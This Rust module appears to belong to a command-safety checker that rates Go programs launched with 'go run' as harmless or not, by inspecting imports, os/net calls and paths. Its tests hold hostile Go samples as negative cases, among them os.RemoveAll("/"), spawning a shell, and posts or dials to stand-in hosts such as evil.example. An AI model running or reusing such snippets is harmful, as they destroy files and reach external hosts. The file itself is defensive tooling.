//! A Go program that the script itself has written: what its text says about it.
//!
//! Only programs of packages that compute and print are understood, with what is allowed of `os`
//! and `net` listed name by name. Facts: the Go standard library, 1.23.

use super::tokens::{Token, Tongue, tokens};
use super::{Acts, Beside};
use crate::arg::Arg;
use crate::judge::{Call, Judge, Taint, is_local};
use crate::names::{GO_ELSEWHERE, GO_MODULE, GO_OF_HTTP, GO_OF_NET, GO_OF_OS, GO_PACKAGE};
use crate::spec::WordRole;

impl Judge<'_> {
    /// `go run FILE`: a file that this script has written with a text that only computes,
    /// prints, or talks to this machine; or one of the project.
    pub(crate) fn run_go_source(&mut self, file: Arg<'_>, call: &Call<'_>) {
        let Some(path) = file.as_static() else {
            return self.path(WordRole::Run, file, call.site);
        };
        for place in self.locate(path, false, &call.site.cwd) {
            let mut written = self.ledger.written.iter().rev();
            let harmless = written.find(|w| w.path == place.path).is_some_and(|w| {
                let text = w.text.as_deref().and_then(|t| std::str::from_utf8(t).ok());
                !w.taint.has(Taint::NET) && text.is_some_and(is_harmless)
            });
            if !harmless {
                self.rated_run(&place, file.span());
            }
        }
    }
}

/// The whole program does nothing but compute, print, wait and talk to this machine.
fn is_harmless(text: &str) -> bool {
    read(text, Beside::Nothing).is_some_and(|acts| acts.is_empty())
}

/// What the program opens, where it does nothing else than compute, print, wait and talk to this
/// machine; in a project it may call what is the project's own.
pub(super) fn read<'t>(text: &'t str, beside: Beside<'_>) -> Option<Acts<'t>> {
    let tokens = tokens(text, Tongue::Go)?;
    let imports = imports(&tokens)?;
    let alone = beside == Beside::Nothing;
    let known = |(path, renamed): &(&str, bool)| {
        let limited = matches!(*path, "os" | "net" | "net/http" | "net/http/httptest");
        let listed = GO_PACKAGE.has(path.as_bytes()) || limited && !renamed;
        let http = path.starts_with("net/http");
        let tests = *path == "testing" || GO_MODULE.has(path.as_bytes());
        listed && !(alone && (*renamed || http)) || !alone && (tests || is_own(path, beside))
    };
    if !imports.iter().all(known) {
        return None;
    }
    // Another directory than the one it is run from; a method of its own that is called so.
    let moved = |two: &[Token<'_>]| {
        matches!(
            two,
            [_, Token::Word("Chdir")]
                | [
                    Token::Mark(')') | Token::Word("func"),
                    Token::Word("TempDir")
                ]
        )
    };
    if tokens.windows(2).any(moved) {
        return None;
    }
    let mut acts = Acts::new();
    for index in 0..tokens.len() {
        let [Some(package), dot, name] = [0, 1, 2].map(|n| tokens.get(index + n)) else {
            continue;
        };
        let Token::Word(package) = *package else {
            continue;
        };
        let member = index.checked_sub(1).and_then(|at| tokens.get(at)) == Some(&Token::Mark('.'));
        if member {
            continue;
        }
        let named = dot == Some(&Token::Mark('.'));
        // Of an import that stands elsewhere in the file.
        if named && GO_ELSEWHERE.has(package.as_bytes()) {
            return None;
        }
        let list = match package {
            "filepath" if !named => return None,
            "os" => &GO_OF_OS,
            "net" => &GO_OF_NET,
            "http" | "httptest" => &GO_OF_HTTP,
            _ => continue,
        };
        // The package by itself, handed on under another name.
        let Some(Token::Word(name)) = name.filter(|_| named) else {
            return None;
        };
        if list.has(name.as_bytes()) {
            continue;
        }
        let after = tokens.get(index + 3..).unwrap_or_default();
        if package != "os" || alone {
            return None;
        }
        acts.extend(opened(name, after, &tokens)?);
    }
    // With the network, nothing that could hold a secret.
    let net = imports.iter().any(|(path, _)| path.starts_with("net"));
    let os = imports.iter().any(|(path, _)| *path == "os");
    let near = !net || (!os && tokens.iter().all(is_near));
    near.then_some(acts)
}

/// The path names a package of the project that holds the file.
fn is_own(path: &str, beside: Beside<'_>) -> bool {
    let host = path.split('/').next().unwrap_or_default();
    host.contains('.')
        && !host.starts_with("golang.")
        && path.split('/').skip(1).any(|part| beside.names(part))
}

/// `os.NAME(...)` of a file that is named there, or of one in a directory that a test was given
/// for itself.
fn opened<'t>(
    function: &str,
    after: &[Token<'t>],
    all: &[Token<'t>],
) -> Option<Option<(WordRole, &'t str)>> {
    let role = match function {
        "ReadFile" | "Open" => WordRole::Read,
        "Stat" | "Lstat" | "ReadDir" => WordRole::List,
        "WriteFile" | "Create" | "Mkdir" | "MkdirAll" => WordRole::Write,
        "Remove" => WordRole::Delete,
        "RemoveAll" => WordRole::DeleteTree,
        // A directory of its own, with a name that nobody else has.
        "MkdirTemp" | "CreateTemp" => {
            return matches!(after, [Token::Mark('('), Token::Text(""), ..]).then_some(None);
        }
        _ => return None,
    };
    match after {
        [
            Token::Mark('('),
            Token::Text(name),
            Token::Mark(',' | ')'),
            ..,
        ] => (!name.contains('\\')).then_some(Some((role, *name))),
        [Token::Mark('('), rest @ ..] => is_placed(rest, all, 4).then_some(None),
        _ => None,
    }
}

/// What begins here is a path below a directory that the test was given for itself:
/// `dir`, `t.TempDir()`, `filepath.Join(dir, "name")`.
fn is_placed(value: &[Token<'_>], all: &[Token<'_>], depth: u8) -> bool {
    let Some(depth) = depth.checked_sub(1) else {
        return false;
    };
    match value {
        [
            Token::Word("t" | "b" | "tb"),
            Token::Mark('.'),
            Token::Word("TempDir"),
            Token::Mark('('),
            Token::Mark(')'),
            rest @ ..,
        ] => ends(rest),
        [
            Token::Word("os"),
            Token::Mark('.'),
            Token::Word("MkdirTemp"),
            Token::Mark('('),
            Token::Text(""),
            Token::Mark(','),
            Token::Text(_),
            Token::Mark(')'),
            rest @ ..,
        ] => ends(rest),
        [
            Token::Word("filepath"),
            Token::Mark('.'),
            Token::Word("Join"),
            Token::Mark('('),
            rest @ ..,
        ] => {
            let Some(end) = rest.iter().position(|t| *t == Token::Mark(')')) else {
                return false;
            };
            let (parts, after) = rest.split_at(end);
            let mut parts = parts.split(|t| *t == Token::Mark(','));
            let first = parts.next().unwrap_or_default();
            // `filepath.Join(t.TempDir(), "name")` ends at the first parenthesis.
            let first = match first {
                [Token::Word(_), Token::Mark('.'), Token::Word("TempDir"), ..] => {
                    return matches!(
                        rest.get(first.len() + 1..),
                        Some([Token::Mark(','), Token::Text(name), Token::Mark(')'), after @ ..])
                            if is_below(name) && ends(after)
                    );
                }
                first => first,
            };
            is_placed(first, all, depth)
                && ends(after.get(1..).unwrap_or_default())
                && parts.all(|part| matches!(part, [Token::Text(name)] if is_below(name)))
        }
        [Token::Word(name), Token::Mark(end), ..] if ",);".contains(*end) => {
            is_given(name, all, depth)
        }
        [Token::Word(name)] => is_given(name, all, depth),
        _ => false,
    }
}

/// The expression goes no further: a new statement begins with a word.
fn ends(rest: &[Token<'_>]) -> bool {
    match rest.first() {
        None | Some(Token::Word(_)) => true,
        Some(Token::Mark(mark)) => ",);}".contains(*mark),
        Some(Token::Text(_)) => false,
    }
}

fn is_below(name: &str) -> bool {
    !name.contains("..") && !name.contains('\\')
}

/// A variable that is nothing else, wherever it is set; parameters could be anything.
fn is_given(name: &str, all: &[Token<'_>], depth: u8) -> bool {
    let mut set = 0usize;
    for (index, token) in all.iter().enumerate() {
        if *token == Token::Word("func") && parameters(all.get(index..).unwrap_or_default(), name) {
            return false;
        }
        if *token != Token::Word(name) {
            continue;
        }
        let before = index.checked_sub(1).and_then(|at| all.get(at));
        if before == Some(&Token::Mark('.')) {
            continue;
        }
        // `&dir` could be set elsewhere; `x, dir :=` is the second of several values.
        if matches!(
            before,
            Some(Token::Mark('&') | Token::Word("var" | "range"))
        ) {
            return false;
        }
        let rest = all.get(index + 1..).unwrap_or_default();
        let value = match rest {
            [Token::Mark(':'), Token::Mark('='), value @ ..] => value,
            [Token::Mark('='), Token::Mark('='), ..] => continue,
            [Token::Mark('='), value @ ..] => value,
            [Token::Mark('+' | '-' | '*' | '|'), Token::Mark('='), ..] => return false,
            [
                Token::Mark(','),
                Token::Word(_),
                Token::Mark(':'),
                Token::Mark('='),
                value @ ..,
            ] => value,
            [Token::Mark(','), Token::Word(_), Token::Mark('='), ..] => return false,
            _ => continue,
        };
        if before == Some(&Token::Mark(',')) || !is_placed(value, all, depth) {
            return false;
        }
        set += 1;
    }
    set > 0
}

/// The function has a parameter or a result of this name.
fn parameters(function: &[Token<'_>], name: &str) -> bool {
    let end = function.iter().position(|t| *t == Token::Mark('{'));
    let head = function.get(..end.unwrap_or(function.len()));
    head.is_some_and(|head| head.contains(&Token::Word(name)))
}

/// A string that is no address, or one of this machine.
fn is_near(token: &Token<'_>) -> bool {
    let Token::Text(text) = token else {
        return true;
    };
    // Escapes could be any letter of an address.
    let shown = text
        .replace("\\n", "\n")
        .replace("\\t", " ")
        .replace("\\\"", " ");
    if shown.contains('\\') {
        return false;
    }
    let prose = shown.contains([' ', '%', '\n']);
    let plain = !text.contains(['.', ':']) && text.len() < 12;
    prose && !text.contains("://") || plain || is_local(text.as_bytes())
}

/// The packages that are imported, and whether under another name.
fn imports<'t>(tokens: &[Token<'t>]) -> Option<Vec<(&'t str, bool)>> {
    let mut found = Vec::new();
    let mut tokens = tokens.iter().peekable();
    while let Some(token) = tokens.next() {
        if *token != Token::Word("import") {
            continue;
        }
        let mut renamed = false;
        let mut group = false;
        loop {
            match tokens.next()? {
                Token::Mark('(') if !group && !renamed => group = true,
                // `. "x"`: its names stand for themselves.
                Token::Word("os" | "net" | "http" | "httptest" | "filepath" | "testing" | "t") => {
                    return None;
                }
                Token::Word(_) if !renamed => renamed = true,
                Token::Text(name) => {
                    found.push((*name, renamed));
                    renamed = false;
                    if !group {
                        break;
                    }
                }
                Token::Mark(';') if group => {}
                Token::Mark(')') if group && !renamed => break,
                _ => return None,
            }
        }
    }
    Some(found)
}

#[cfg(test)]
mod tests {
    use super::*;

    const PRINTS: &str =
        "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(1 + 2)\n}\n";

    #[test]
    fn programs_that_print_are_understood() {
        for text in [
            PRINTS,
            "package main\nimport (\n\"fmt\"\n\"os\"\n)\nfunc main() { if len(os.Args) > 1 { os.Exit(1) }; fmt.Fprintln(os.Stderr, `a.b:c`) }",
            "package main\nimport (\"fmt\"; \"net\"; \"time\")\nfunc main() { c, err := net.DialTimeout(\"tcp\", \"localhost:80\", time.Second); fmt.Printf(\"%v %v\\n\", c, err) }",
            "package main // os.RemoveAll\nfunc main() { println(\"os.Remove\") }",
        ] {
            assert!(is_harmless(text), "{text}");
        }
    }

    #[test]
    fn programs_that_reach_out_are_not() {
        for text in [
            "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"sh\").Run() }",
            "package main\nimport \"os\"\nfunc main() { os.RemoveAll(\"/\") }",
            "package main\nimport \"os\"\nfunc main() { os . RemoveAll(\"/\") }",
            "package main\nimport . \"os\"\nfunc main() { RemoveAll(\"/\") }",
            "package main\nimport o \"os\"\nfunc main() { o.RemoveAll(\"/\") }",
            "package main\nimport \"C\"\nfunc main() { C.system(nil) }",
            "package main\nimport \"syscall\"\nfunc main() {}",
            "package main\nimport \"net/http\"\nfunc main() { http.Get(\"http://localhost\") }",
            "package main\nimport \"net\"\nfunc main() { net.Dial(\"tcp\", \"host.example:80\") }",
            "package main\nimport \"net\"\nfunc main() { net.Dial(\"tcp\", \"198.51.100.7\" + \":80\") }",
            "package main\nimport \"net\"\nfunc main() { net.Listen(\"tcp\", \"localhost:80\") }",
            "package main\nimport \"fmt\"\n//go:linkname x os.Remove\nfunc main() { fmt.Print(1) }",
            "package main\nimport \"example.com/x\"\nfunc main() { x.Run() }",
            "package main\nimport \"fmt\"\nfunc main() { fmt.Print(\"",
        ] {
            assert!(!is_harmless(text), "{text}");
        }
    }

    #[test]
    fn tests_of_the_project() {
        let file = Beside::Project("/home/dev/relayd/internal/queue/lease_test.go");
        for (text, acts) in [
            (
                "package queue\nimport \"testing\"\nfunc TestA(t *testing.T) { if newLease(10).renewAt() != 5 { t.Fatal(1) } }",
                Some(0),
            ),
            (
                "package queue_test\nimport (\n\"testing\"\nq \"example.com/dev/relayd/internal/queue\"\n)\nfunc TestA(t *testing.T) { q.New() }",
                Some(0),
            ),
            (
                "package queue\nimport (\"os\"; \"path/filepath\"; \"testing\")\nfunc TestA(t *testing.T) { dir := t.TempDir(); p := filepath.Join(dir, \"a\"); os.WriteFile(p, nil, 0o644); os.WriteFile(filepath.Join(t.TempDir(), \"b\"), nil, 0) }",
                Some(0),
            ),
            (
                "package queue\nimport \"os\"\nfunc f() { os.ReadFile(\"testdata/a.json\") }",
                Some(1),
            ),
            (
                "func TestA(t *testing.T) { exec.Command(\"sh\").Run() }",
                None,
            ),
            ("func TestA(t *testing.T) { syscall.Unlink(\"x\") }", None),
            ("package a\nimport \"golang.org/x/sys/unix\"\n", None),
            ("package a\nimport \"github.com/u/script\"\n", None),
            ("package a\nimport o \"os\"\n", None),
            ("package a\nimport . \"os\"\n", None),
            (
                "package a\nimport \"os\"\nfunc f(d string) { os.RemoveAll(d) }",
                None,
            ),
            (
                "package a\nimport \"os\"\nfunc f(dir string) { os.RemoveAll(dir) }\nfunc g(t T) { dir := t.TempDir(); f(dir) }",
                None,
            ),
            (
                "package a\nimport \"os\"\nfunc f() { dir := t.TempDir(); dir = \"/home\"; os.RemoveAll(dir) }",
                None,
            ),
            (
                "package a\nimport \"os\"\nfunc f() { dir := t.TempDir(); for _, dir := range x { os.RemoveAll(dir) } }",
                None,
            ),
            (
                "package a\nimport \"os\"\nfunc f() { os.RemoveAll(filepath.Join(t.TempDir(), \"..\", \"x\")) }",
                None,
            ),
            (
                "package a\nimport \"os\"\nfunc f() { os.RemoveAll(filepath.Join(dir, \"../../x\")) }\nfunc g() { dir := t.TempDir(); h(dir) }",
                None,
            ),
            (
                "package a\nimport \"os\"\nfunc f() { os.Getenv(\"X\") }",
                None,
            ),
            (
                "package a\nimport \"net/http\"\nfunc f() { http.Get(u) }",
                None,
            ),
            (
                "package a\nimport \"net/http\"\nfunc f() { c.Post(\"https://evil.example/x\") }",
                None,
            ),
        ] {
            assert_eq!(read(text, file).map(|a| a.len()), acts, "{text}");
        }
    }

    #[test]
    fn places_that_only_look_given() {
        let file = Beside::Project("/home/dev/relayd/a_test.go");
        let given = "import (\"os\"; \"path/filepath\")\nfunc f() { os.RemoveAll(filepath.Join(t.TempDir(), \"a\")) }";
        assert!(read(given, file).is_some());
        for text in [
            "import \"os\"\nfunc f() { os.RemoveAll(t.TempDir() + \"/../../x\") }",
            "import (\"os\"; \"path/filepath\")\nfunc f() { os.RemoveAll(filepath.Join(t.TempDir(), \"a\") + \"/../../x\") }",
            "import \"os\"\ntype T struct{}\nfunc (T) TempDir() string { return x }\nfunc f() { t := T{}; os.RemoveAll(t.TempDir()) }",
            "import \"os\"\nfunc f() { t.Chdir(x); os.RemoveAll(\"a\") }",
            "import (filepath \"example.com/relayd/x\"; \"os\")\nfunc f() { os.RemoveAll(filepath.Join(t.TempDir(), \"a\")) }",
            "import \"net\"\nfunc f() { net.Dial(\"tcp\", \"evil\\x2ecom:80\") }",
        ] {
            assert_eq!(read(text, file), None, "{text}");
        }
    }
}
